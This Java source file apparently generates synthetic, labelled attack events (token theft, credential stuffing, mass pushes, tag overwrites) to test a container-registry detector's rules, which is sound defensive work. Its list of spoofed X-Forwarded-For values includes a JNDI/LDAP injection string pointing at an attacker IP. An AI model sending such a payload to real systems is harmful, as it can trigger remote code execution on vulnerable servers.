package dev.tokenwatch.samples.population;

import static dev.tokenwatch.samples.Time.DAY;
import static dev.tokenwatch.samples.Time.HOUR;
import static dev.tokenwatch.samples.Time.MINUTE;
import static dev.tokenwatch.samples.Time.SECOND;

import dev.tokenwatch.samples.Dice;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.Predicate;

/**
 * Attacks planted the way an attacker would carry them out, several per shipped rule with
 * different victims, times and infrastructure, each labelled with the rule meant to catch it.
 * Written from the rules' descriptions (what they are for), not from their parameters or tests.
 */
final class PlantedAttacks {
    private static final String TOKEN_NEW_SOURCE = "tw-token-new-source";
    private static final String IMPOSSIBLE_TRAVEL = "tw-impossible-travel";
    private static final String LOGIN_FAILURE_BURST = "tw-login-failure-burst";
    private static final String FAILURES_THEN_SUCCESS = "tw-login-failures-then-success";
    private static final String MASS_PULL = "tw-mass-pull-many-repositories";
    private static final String MASS_PUSH = "tw-mass-push-many-repositories";
    private static final String PROTECTION_WEAKENED = "tw-organization-protection-weakened";
    private static final String PUSH_NEW_ACTOR = "tw-push-new-actor";
    private static final String READ_ONLY_PUSH = "tw-push-read-only-token";
    private static final String MADE_PUBLIC = "tw-repo-made-public";
    private static final String REVOKED_USED = "tw-revoked-token-used";
    private static final String TAG_OVERWRITE = "tw-tag-overwrite-protected-repository";
    private static final String BROADER_SCOPES = "tw-token-created-broader-scopes";
    private static final String CREATED_THEN_ABROAD = "tw-token-created-then-used-abroad";
    private static final String OWNER_REMOVED = "tw-token-used-after-owner-removed";
    private static final String SPOOFED_ADDRESS = "tw-token-used-with-spoofed-address";
    private static final String AUTO_TOKENS = "tw-too-many-auto-tokens";
    private static final String DORMANT = "tw-dormant-token-used";

    /** What attackers write into X-Forwarded-For to blind address-based detection. */
    private static final String[] SPOOFED = {"unknown", "localhost", "${jndi:ldap://45.77.28.9/a}", "-", "internal-gw"};
    /** Attacker hosts far from Europe, India and the Americas respectively (Singapore, Tokyo, Hong Kong; New Jersey). */
    private static final List<Networks.Block> FAR_EAST = List.of(new Networks.Block("128.199.81"), new Networks.Block("45.77.28"),
            new Networks.Block("103.152.220"));
    private static final Networks.Block NORTH_BERGEN = new Networks.Block("167.99.10");

    private final Dice dice;
    private final Recorder rec;
    private final Organization org;
    private final long start;
    private final int days;
    private final List<Person> carelessRemovals = new ArrayList<>();
    private final List<Person> mintedFor = new ArrayList<>();
    final List<Label> labels = new ArrayList<>();

    PlantedAttacks(Dice dice, Recorder rec, Organization org, long start) {
        this.dice = dice;
        this.rec = rec;
        this.org = org;
        this.start = start;
        this.days = org.days;
    }

    /** Before the benign traffic: some departures will forget to revoke the leaver's tokens. */
    void prepare() {
        for (int i = 0; i < 2; i++) {
            Person p = victim();
            p.leaveDay = dice.between(Math.min(1, days - 2), Math.max(1, days - 2));
            p.removedCarelessly = true;
            carelessRemovals.add(p);
        }
    }

    void plant(BenignPopulation benign) {
        for (int i = 0; i < 3; i++) stolenTokenReplayed(i);
        for (int i = 0; i < 3; i++) usedFarAwayRightAfterOwner(i);
        for (int i = 0; i < 3; i++) credentialStuffing();
        for (int i = 0; i < 3; i++) passwordGuessed();
        for (int i = 0; i < 3; i++) imagesCopiedOut();
        massPushWithDesktopToken();
        massPushFromCi(benign);
        for (int i = 0; i < 3; i++) protectionWeakened(i);
        for (int i = 0; i < 3; i++) pushToAnotherTeamsRepository();
        readOnlyPersonalTokenPushes();
        readOnlyPersonalTokenPushes();
        readOnlyCiTokenPushes(benign);
        for (int i = 0; i < 2; i++) repositoryPublished();
        for (int i = 0; i < 3; i++) revokedTokenRetried();
        for (int i = 0; i < 3; i++) releaseTagRepointed(benign, i);
        for (int i = 0; i < 2; i++) adminTokenMinted();
        for (int i = 0; i < 3; i++) tokenMintedThenUsedAbroad(i);
        for (Person p : carelessRemovals) removedMembersTokenUsed(p);
        for (int i = 0; i < 3; i++) spoofedAddress(i);
        for (int i = 0; i < 2; i++) autoTokensFarmed();
        for (int i = 0; i < 3; i++) dormantTokenRevived(i);
    }

    // ---- the attacks ----

    private void stolenTokenReplayed(int variant) {
        Person p = victim();
        long at = night(2, p);
        Tok t = p.cliTokenAt(at);
        String vps = vps();
        List<Act> acts = new ArrayList<>();
        boolean login = variant == 0;
        if (login) acts.add(rec.tokenUsed(t, vps, Clients.ATTACKER_DOCKER, at));
        acts.addAll(pulls(t, vps, Clients.ATTACKER_DOCKER, dice.sample(Repos.NAMES, dice.between(2, 5)), at + MINUTE));
        label(TOKEN_NEW_SOURCE, "Token " + t.id + " of " + p.name + ", stolen from a laptop, replayed at night from a VPS (" + vps + ")",
                acts, !login);
    }

    private void usedFarAwayRightAfterOwner(int variant) {
        Person p = victim();
        long owner = workTime(2, p);
        Tok t = p.cliTokenAt(owner);
        boolean login = variant == 2;
        // The owner's own use, benign; with a docker login the token server sees where the owner is, with a token id.
        if (login) rec.tokenUsed(t, p.homeAddress, p.desktopAgent, owner - 10 * SECOND);
        rec.pull(t, p.homeAddress, p.desktopAgent, Repos.BASE_IMAGES, owner);
        String far = (Set.of("US", "BR").contains(p.office.country) ? dice.pick(FAR_EAST) : variant % 2 == 0 ? NORTH_BERGEN
                : dice.pick(FAR_EAST)).address(dice);
        long at = owner + dice.between(20, 90) * MINUTE;
        List<Act> acts = new ArrayList<>();
        if (login) acts.add(rec.tokenUsed(t, far, Clients.ATTACKER_SCRIPT, at));
        acts.addAll(pulls(t, far, Clients.ATTACKER_SCRIPT, dice.sample(Repos.NAMES, dice.between(1, 3)), at + 30 * SECOND));
        label(IMPOSSIBLE_TRAVEL, "Token " + t.id + " of " + p.name + " used from " + far + " " + (at - owner) / MINUTE
                + " minutes after its owner used it at home (" + p.homeAddress + ")", acts, !login);
    }

    private void credentialStuffing() {
        Person p = victim();
        long at = night(1, p);
        int attempts = dice.between(12, 30);
        List<Act> acts = new ArrayList<>();
        for (int i = 0; i < attempts; i++) {
            String proxy = dice.chance(0.5) ? Networks.TOR_EXITS.address(dice) : vps();
            acts.add(rec.login(p.name, proxy, Clients.ATTACKER_SCRIPT, false, at));
            at += dice.between(5, 25) * SECOND;
        }
        label(LOGIN_FAILURE_BURST, attempts + " failed logins as " + p.name + " from rotating proxies (credential stuffing), none succeeded",
                acts, false);
    }

    private void passwordGuessed() {
        Person p = victim();
        long at = night(1, p);
        String source = dice.chance(0.5) ? Networks.TOR_EXITS.address(dice) : vps();
        int failures = dice.between(5, 9);
        List<Act> acts = new ArrayList<>();
        for (int i = 0; i < failures; i++) {
            acts.add(rec.login(p.name, source, Clients.ATTACKER_SCRIPT, false, at));
            at += dice.between(15, 60) * SECOND;
        }
        acts.add(rec.login(p.name, source, Clients.ATTACKER_SCRIPT, true, at));
        label(FAILURES_THEN_SUCCESS, failures + " failed logins as " + p.name + " from " + source + ", then the guessed password worked",
                acts, false);
    }

    private void imagesCopiedOut() {
        Person p = victim();
        long at = night(1, p);
        Tok t = p.cliTokenAt(at);
        String vps = vps();
        String agent = dice.chance(0.5) ? Clients.SKOPEO : Clients.CRANE;
        List<Act> acts = new ArrayList<>();
        acts.add(rec.tokenUsed(t, vps, agent, at));
        for (String repo : dice.sample(Repos.NAMES, dice.between(18, 35))) {
            at += dice.between(5, 20) * SECOND;
            acts.add(rec.pull(t, vps, agent, repo, at));
        }
        label(MASS_PULL, p.name + "'s token " + t.id + " used from " + vps + " to copy " + (acts.size() - 1) + " repositories in minutes",
                acts, false);
    }

    private void massPushWithDesktopToken() {
        Person p = victim(q -> q.writer && q.dockerDesktop);
        long at = night(2, p);
        Tok t = p.cliTokenAt(at);
        String vps = vps();
        List<Act> acts = new ArrayList<>();
        for (String repo : dice.sample(Repos.NAMES, dice.between(9, 14))) {
            acts.add(rec.push(t, vps, Clients.ATTACKER_DOCKER, repo, "latest", at));
            at += dice.between(15, 45) * SECOND;
        }
        label(MASS_PUSH, "Backdoored image pushed as latest to " + acts.size() + " repositories with " + p.name + "'s Docker Desktop token from "
                + vps, acts, false);
    }

    private void massPushFromCi(BenignPopulation benign) {
        // One team's pipeline tokens sit on the runner; registry tokens are not limited to one repository.
        String team = dice.pick(benign.ciTokens).user;
        List<Tok> tokens = benign.ciTokens.stream().filter(t -> t.user.equals(team)).toList();
        String runner = dice.pick(Networks.AWS_RUNNERS).address(dice);
        long at = start + dice.between(Math.min(2, days - 1), days - 1) * DAY + dice.between(0, 23) * HOUR;
        List<Act> acts = new ArrayList<>();
        String tag = "main-" + dice.hex(7);
        for (String repo : dice.sample(Repos.NAMES, dice.between(9, 12))) {
            acts.add(rec.push(dice.pick(tokens), runner, Clients.BUILDKIT, repo, tag, at));
            at += dice.between(20, 50) * SECOND;
        }
        label(MASS_PUSH, "A compromised CI runner (" + runner + ") pushes one backdoored build to " + acts.size()
                + " repositories with " + team + "'s pipeline tokens", acts, false);
    }

    private void protectionWeakened(int variant) {
        Person admin = dice.pick(org.admins);
        long at = night(1, admin);
        String vps = vps();
        List<Act> acts = new ArrayList<>();
        acts.add(rec.login(admin.name, vps, Clients.BROWSERS.get(1), true, at));
        String what = switch (variant) {
            case 0 -> "org.sso.enforcement.disable";
            case 1 -> "org.member.role.owner";
            default -> "org.signin.enforcement.disable";
        };
        Act change = variant == 1
                ? rec.membership("other", what, admin.name, "svc-backup", null, vps, Clients.BROWSERS.get(1), at + dice.between(1, 5) * MINUTE)
                : rec.orgSetting(what, admin.name, vps, Clients.BROWSERS.get(1), at + dice.between(1, 5) * MINUTE);
        acts.add(change);
        label(PROTECTION_WEAKENED, admin.name + "'s hijacked session (" + vps + ") does " + what, acts, false);
    }

    private void pushToAnotherTeamsRepository() {
        Person p = victim(q -> q.writer);
        long at = night(2, p);
        Tok t = p.cliTokenAt(at);
        String vps = vps();
        String repo = dice.pick(Repos.ofTeam((p.team + 1 + dice.between(0, Organization.TEAMS - 2)) % Organization.TEAMS, Organization.TEAMS));
        List<Act> acts = new ArrayList<>();
        acts.add(rec.pull(t, vps, Clients.ATTACKER_DOCKER, repo, at));
        acts.add(rec.push(t, vps, Clients.ATTACKER_DOCKER, repo, "latest", at + dice.between(2, 6) * MINUTE));
        label(PUSH_NEW_ACTOR, p.name + "'s stolen credentials push " + repo + ":latest, a repository of another team, from " + vps, acts, false);
    }

    private void readOnlyPersonalTokenPushes() {
        Person p = victim(q -> !q.writer && !q.dockerDesktop);
        Tok t = p.personal;
        long at = workTime(1, p);
        String repo = dice.pick(Repos.NAMES);
        Act push = rec.push(t, p.homeAddress, Clients.ATTACKER_DOCKER, repo, "latest", at);
        push.outcome = "failure";
        label(READ_ONLY_PUSH, p.name + "'s read-only token " + t.id + " tries to push " + repo + " (refused) from the owner's own network",
                List.of(push), true);
    }

    private void readOnlyCiTokenPushes(BenignPopulation benign) {
        Tok t = benign.integrationToken;
        String runner = dice.pick(Networks.AWS_RUNNERS).address(dice);
        long at = start + dice.between(Math.min(1, days - 1), days - 1) * DAY + dice.between(0, 23) * HOUR;
        String repo = dice.pick(Repos.NAMES);
        List<Act> acts = List.of(rec.push(t, runner, Clients.BUILDKIT, repo, "latest", at));
        label(READ_ONLY_PUSH, "The integration tests' read-only token, taken from a runner, pushes " + repo + " from " + runner, acts, true);
    }

    private void repositoryPublished() {
        Person admin = dice.pick(org.admins);
        long at = night(1, admin);
        String vps = vps();
        String repo = dice.pick(List.of("acme/payments-api", "acme/ledger", "acme/identity", "acme/auth", "acme/billing"));
        Act change = rec.repoSetting("repo.visibility.change", admin.name, repo, "public", vps, Clients.ATTACKER_SCRIPT, at);
        label(MADE_PUBLIC, admin.name + "'s session (" + vps + ") makes the private " + repo + " public", List.of(change), false);
    }

    private void revokedTokenRetried() {
        Person p = victim();
        // A second token for a build VM, used for a few days, leaks; its owner revokes it (all benign so far).
        Tok extra = new Tok("tok-" + p.name + "-buildvm-" + dice.hex(4), p.name, "personal", p.personal.scopes);
        long revoked = workTime(2, p) - DAY;
        long used = revoked - dice.between(1, 2) * DAY;
        extra.createdAt = rec.tokenEvent("token.created", extra, p.homeAddress, p.browser, used - HOUR).time;
        for (; used < revoked; used += dice.between(3, 9) * HOUR) rec.pull(extra, p.homeAddress, p.desktopAgent, Repos.BASE_IMAGES, used);
        rec.tokenEvent("token.revoked", extra, p.homeAddress, p.browser, revoked);
        long at = revoked + dice.between(3, 24) * HOUR;
        String vps = vps();
        List<Act> acts = pulls(extra, vps, Clients.ATTACKER_SCRIPT, dice.sample(Repos.NAMES, dice.between(1, 3)), at);
        label(REVOKED_USED, "The leaked build-VM token " + extra.id + " of " + p.name + ", revoked by its owner, retried from " + vps, acts, true);
    }

    private void releaseTagRepointed(BenignPopulation benign, int variant) {
        String repo = Repos.PROTECTED.get(variant % Repos.PROTECTED.size());
        Tok ci = benign.ciTokens.get(Repos.NAMES.indexOf(repo));
        long released = start + dice.between(0, Math.max(0, days - 2)) * DAY + dice.between(8, 16) * HOUR;
        String tag = rec.repos().nextRelease(repo);
        // The release itself, by the pipeline, benign.
        rec.push(ci, dice.pick(Networks.AWS_RUNNERS).address(dice), Clients.BUILDKIT, repo, tag, released);
        long at = released + dice.between(4, 30) * HOUR;
        Act push;
        String who;
        if (variant == 0) {
            Person p = victim(q -> q.writer);
            String vps = vps();
            push = rec.push(p.cliTokenAt(at), vps, Clients.ATTACKER_DOCKER, repo, tag, at);
            who = p.name + "'s stolen token from " + vps;
        } else if (variant == 1) {
            String runner = dice.pick(Networks.AWS_RUNNERS).address(dice);
            push = rec.push(ci, runner, Clients.BUILDKIT, repo, tag, at);
            who = "a tampered pipeline step with the pipeline's own token from runner " + runner;
        } else {
            Person p = victim(q -> q.writer);
            push = rec.push(p.cliTokenAt(at), p.homeAddress, p.desktopAgent, repo, tag, at);
            who = "an insider, " + p.name + ", from home";
        }
        label(TAG_OVERWRITE, repo + ":" + tag + " re-pointed to a different image by " + who, List.of(push), false);
    }

    /**
     * The victim has a token creation of their own at least three days earlier if anyone has (a new
     * hire's first token, a rotation), so the victim's usual scopes are known; otherwise anyone. A
     * different victim each time.
     */
    private void adminTokenMinted() {
        long end = start + days * DAY;
        List<Person> withHistory = org.people.stream()
                .filter(q -> !q.dockerDesktop && q.leaveDay < 0 && q.trip == null && q.personal.createdAt > Long.MIN_VALUE
                        && q.personal.createdAt + 4 * DAY < end && !mintedFor.contains(q))
                .toList();
        Person p = withHistory.isEmpty() ? victim(q -> !q.dockerDesktop && !mintedFor.contains(q)) : dice.pick(withHistory);
        mintedFor.add(p); // a second admin token for the same victim would not be a new scope set
        long at = night(3, p);
        if (!withHistory.isEmpty()) at = Math.max(at, p.personal.createdAt + 3 * DAY + dice.between(2, 20) * HOUR);
        String tor = Networks.TOR_EXITS.address(dice);
        Tok minted = new Tok("tok-" + p.name + "-backup-" + dice.hex(4), p.name, "personal", Tok.ADMIN);
        List<Act> acts = new ArrayList<>();
        acts.add(rec.tokenEvent("token.created", minted, tor, Clients.BROWSERS.get(0), at));
        acts.add(rec.tokenUsed(minted, tor, Clients.ATTACKER_SCRIPT, at + dice.between(2, 10) * MINUTE));
        label(BROADER_SCOPES, "With " + p.name + "'s hijacked session, an admin-scoped token " + minted.id + " is created through Tor",
                acts, false);
    }

    private void tokenMintedThenUsedAbroad(int variant) {
        Person p = victim();
        long at = workTime(1, p);
        // A residential proxy in the victim's own country makes the session look local.
        String local = dice.pick(p.isp.blocks).address(dice);
        Tok minted = new Tok("tok-" + p.name + "-" + dice.hex(6), p.name, "personal", Tok.READ_WRITE);
        List<Act> acts = new ArrayList<>();
        acts.add(rec.tokenEvent("token.created", minted, local, p.browser, at));
        String vps = dice.pick(FAR_EAST).address(dice); // Singapore, Tokyo, Hong Kong: never a victim's country here
        long use = at + dice.between(5, 50) * MINUTE;
        boolean login = variant == 0;
        if (login) acts.add(rec.tokenUsed(minted, vps, Clients.ATTACKER_DOCKER, use));
        acts.addAll(pulls(minted, vps, Clients.ATTACKER_DOCKER, dice.sample(Repos.NAMES, dice.between(2, 4)), use + 20 * SECOND));
        label(CREATED_THEN_ABROAD, "A phished session of " + p.name + " mints " + minted.id + " from " + local + "; it is used from "
                + vps + " " + (use - at) / MINUTE + " minutes later", acts, !login);
    }

    private void removedMembersTokenUsed(Person p) {
        long at = start + Math.min(days - 1, p.leaveDay + 1) * DAY + dice.between(2, 23) * HOUR + dice.between(0, 59) * MINUTE;
        Tok t = p.cliTokenAt(at);
        boolean fromHome = dice.chance(0.5);
        String address = fromHome ? p.homeAddress : vps();
        List<Act> acts = pulls(t, address, fromHome ? Clients.SKOPEO : Clients.ATTACKER_DOCKER,
                dice.sample(Repos.NAMES, dice.between(1, 4)), at);
        label(OWNER_REMOVED, p.name + " was removed from the organization without revoking " + t.id + "; it pulls again from "
                + (fromHome ? "their home " : "") + address, acts, true);
    }

    private void spoofedAddress(int variant) {
        Person p = victim();
        long at = night(1, p);
        Tok t = p.cliTokenAt(at);
        String spoofed = SPOOFED[variant % SPOOFED.length];
        List<Act> acts = pulls(t, spoofed, Clients.ATTACKER_SCRIPT, dice.sample(Repos.NAMES, dice.between(2, 5)), at);
        label(SPOOFED_ADDRESS, "Token " + t.id + " of " + p.name + " pulls with X-Forwarded-For '" + spoofed + "'", acts, true);
    }

    private void autoTokensFarmed() {
        Person p = victim(q -> q.dockerDesktop);
        long at = night(1, p);
        String vps = vps();
        int machines = dice.between(6, 9);
        List<Act> acts = new ArrayList<>();
        for (int i = 0; i < machines; i++) {
            acts.add(rec.login(p.name, vps, Clients.DOCKER_DESKTOP, true, at));
            acts.add(rec.tokenEvent("token.created", Organization.autoToken(dice, p.name), vps, Clients.DOCKER_DESKTOP, at + 3 * SECOND));
            at += dice.between(3, 12) * MINUTE;
        }
        label(AUTO_TOKENS, "Docker Desktop signed in as " + p.name + " on " + machines + " throwaway machines behind " + vps, acts, false);
    }

    private void dormantTokenRevived(int variant) {
        String project = dice.pick(List.of("legacy-deploy", "old-jenkins", "migration", "demo-2025"));
        Tok t = new Tok("tok-ci-" + project + "-" + dice.hex(4), "ci-legacy", "robot", Tok.READ_WRITE);
        String runner = dice.pick(Networks.AWS_RUNNERS).address(dice);
        long lastUse = start - dice.between(100, 200) * DAY;
        rec.tokenUsed(t, runner, Clients.BUILDKIT, lastUse); // its last real use, benign
        rec.pull(t, runner, Clients.BUILDKIT, dice.pick(Repos.NAMES), lastUse + 5 * SECOND);
        long at = start + dice.between(Math.min(1, days - 1), days - 1) * DAY + dice.between(0, 23) * HOUR;
        String vps = vps();
        List<Act> acts = new ArrayList<>();
        boolean login = variant == 0;
        if (login) acts.add(rec.tokenUsed(t, vps, Clients.ATTACKER_SCRIPT, at));
        acts.addAll(pulls(t, vps, Clients.ATTACKER_SCRIPT, dice.sample(Repos.NAMES, dice.between(1, 3)), at + MINUTE));
        label(DORMANT, "A forgotten CI token " + t.id + ", leaked in an old repository's history, used again from " + vps, acts, !login);
    }

    // ---- helpers ----

    private List<Act> pulls(Tok t, String address, String agent, List<String> repos, long at) {
        List<Act> acts = new ArrayList<>();
        for (String repo : repos) {
            acts.add(rec.pull(t, address, agent, repo, at));
            at += dice.between(3, 40) * SECOND;
        }
        return acts;
    }

    private void label(String rule, String description, List<Act> acts, boolean needsTokenId) {
        labels.add(new Label(String.format("A%02d", labels.size() + 1), rule, description, Label.idsOf(acts), needsTokenId));
    }

    private Person victim() {
        return victim(p -> true);
    }

    /** Someone in the organization for the whole stream, not travelling, not an admin, not already leaving. */
    private Person victim(Predicate<Person> also) {
        List<Person> candidates = org.people.stream()
                .filter(p -> p.startDay == 0 && p.trip == null && p.leaveDay < 0 && !org.admins.contains(p) && also.test(p)).toList();
        return dice.pick(candidates);
    }

    /** A time between 01:00 and 05:00 at the victim's place, on day {@code minDay} or later. */
    private long night(int minDay, Person p) {
        long dayStart = start + dice.between(Math.min(minDay, days - 1), days - 1) * DAY;
        return BenignPopulation.local(dayStart, p.utcOffsetMinutes(), dice.between(60, 5 * 60));
    }

    private long workTime(int minDay, Person p) {
        long dayStart = start + dice.between(Math.min(minDay, days - 1), days - 1) * DAY;
        return BenignPopulation.local(dayStart, p.utcOffsetMinutes(), dice.between(9 * 60, 17 * 60));
    }

    private String vps() {
        return dice.pick(Networks.ATTACKER_VPS).address(dice);
    }
}
